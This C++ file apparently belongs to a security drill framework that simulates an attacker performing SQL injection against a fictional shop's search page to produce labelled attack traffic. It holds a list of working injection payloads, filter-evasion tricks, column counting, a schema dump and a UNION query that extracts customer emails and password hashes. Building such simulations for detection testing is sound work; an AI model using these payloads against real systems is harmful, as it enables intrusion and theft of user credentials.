// The SQL injection: look around, break the statement, find its shape, read the schema, take rows.
#include <fmt/format.h>

#include <algorithm>
#include <string>
#include <vector>

#include "attacker.h"
#include "rng.h"

namespace quell::drill {
namespace {

using std::string_view;

// How this attacker dresses his statements, so that seeds look different in the log.
enum class Dress : std::uint8_t { kPlain, kComments, kMixedCase };

std::string dressed(string_view statement, Dress dress) {
  std::string out;
  bool upper = false;
  for (const char c : statement) {
    if (c == ' ' && dress == Dress::kComments) {
      out += "/**/";
    } else if (dress == Dress::kMixedCase && c >= 'A' && c <= 'Z') {
      upper = !upper;
      out += upper ? c : static_cast<char>(c - 'A' + 'a');
    } else {
      out += c;
    }
  }
  return out;
}

// Guesses at other databases and contexts: they fail here, as most of an attack does.
constexpr string_view kGuesses[] = {
    "' AND SLEEP({})-- ",
    "' AND {0}=CAST((SELECT version()) AS INT)-- ",
    "'; WAITFOR DELAY '0:0:{}'-- ",
    "\" OR {0}={0}-- ",
    "') OR ({0}={0}",
    "' OR '{0}'='{0}",
    "' OR {0}={0}-- ",
    "' AND {0}={0}-- ",
    "' AND {0}=0-- ",
    "' AND EXTRACTVALUE({0},CONCAT(0x7e,USER()))-- ",
    "' || (SELECT pg_sleep({})) || '",
    "' UNION ALL SELECT {0}-- ",
    "' UNION ALL SELECT {0},{0}-- ",
    "' GROUP BY {0} HAVING {0}={0}-- ",
    "' AND (SELECT COUNT(*) FROM information_schema.tables)>{}-- ",
    "' PROCEDURE ANALYSE({})-- ",
    "%' AND ASCII(SUBSTR((SELECT user()),1,1))>{}-- ",
    "'; DROP TABLE t{}-- ",
};

constexpr string_view kCustomerMark = "@mail.example</a>";

std::size_t customers_in(string_view body) {
  std::size_t count = 0;
  for (auto at = body.find(kCustomerMark); at != string_view::npos;
       at = body.find(kCustomerMark, at + 1))
    ++count;
  return count;
}

class Injector {
 public:
  explicit Injector(const Attacker::Means& means)
      : scenario_(means.scenario),
        rng_(scenario_.seed, "injector"),
        dress_(static_cast<Dress>(rng_.below(3))),
        attacker_(means, {scenario_.attack.injector, scenario_.attack.injector_agent},
                  {.address = scenario_.attack.injector,
                   .vector = "sqli",
                   .endpoint = scenario_.shop.search.path,
                   .requests = {}}) {}

  AttackTruth run() {
    attacker_.look_around(rng_.between(3, 9));
    break_it();
    guess(rng_.between(80, 220));
    count_columns();
    if (read_schema()) take_customers();
    return attacker_.take();
  }

 private:
  Answer search(const std::string& term) {
    return attacker_.ask(target_of(scenario_.shop.search, percent_encode(term)));
  }

  /// An apostrophe breaks the page and two mend it: the statement is built from the term.
  void break_it() {
    for (const string_view term : {"lamp", "lamp'", "lamp''", "lamp'''"}) {
      if (attacker_.stopped()) return;
      if (search(std::string(term)).status == 500) attacker_.last().outcome = Outcome::kSignal;
    }
  }

  void guess(std::size_t attempts) {
    for (std::size_t i = 0; i < attempts && !attacker_.stopped(); ++i) {
      const std::size_t number = rng_.between(1000, 9999);
      const Answer answer =
          search("zz" + dressed(fmt::format(fmt::runtime(rng_.pick(kGuesses)), number), dress_));
      // A page of products for a term that nothing is called: the condition was taken as SQL.
      const bool found = answer.body.find("found.</p>") != std::string::npos;
      if (answer.status == 500 || found) attacker_.last().outcome = Outcome::kSignal;
    }
  }

  void count_columns() {
    for (std::size_t column = 1; column < 12 && !attacker_.stopped(); ++column) {
      const auto answer = search(dressed(fmt::format("zz' ORDER BY {}-- ", column), dress_));
      if (answer.status != 500) continue;
      attacker_.last().outcome = Outcome::kSignal;
      return;
    }
  }

  /// Whether the schema came back with the table he is after.
  bool read_schema() {
    if (attacker_.stopped()) return false;
    const auto answer = search(
        dressed("zz' UNION SELECT 1,name,0,sql FROM sqlite_master WHERE type='table'-- ", dress_));
    const bool got = answer.body.find("CREATE TABLE") != std::string::npos;
    if (got) attacker_.last().outcome = Outcome::kData;
    return got;
  }

  void take_customers() {
    const AttackScenario& attack = scenario_.attack;
    std::size_t taken = 0;
    while (taken < attack.rows_wanted && !attacker_.stopped()) {
      const std::size_t asked = std::min(attack.rows_per_request, attack.rows_wanted - taken);
      const auto answer =
          search(dressed(fmt::format("zz' UNION SELECT id,email,0,password_hash FROM {} "
                                     "ORDER BY 1 LIMIT {} OFFSET {}-- ",
                                     scenario_.shop.customer_table, asked, taken),
                         dress_));
      const std::size_t got = customers_in(answer.body);
      if (got == 0) return;
      attacker_.last().outcome = Outcome::kData;
      attacker_.last().rows = got;
      taken += got;
    }
  }

  const Scenario& scenario_;
  Rng rng_;
  Dress dress_;
  Attacker attacker_;
};

}  // namespace

AttackTruth inject(const Attacker::Means& means) {
  return Injector(means).run();
}

}  // namespace quell::drill
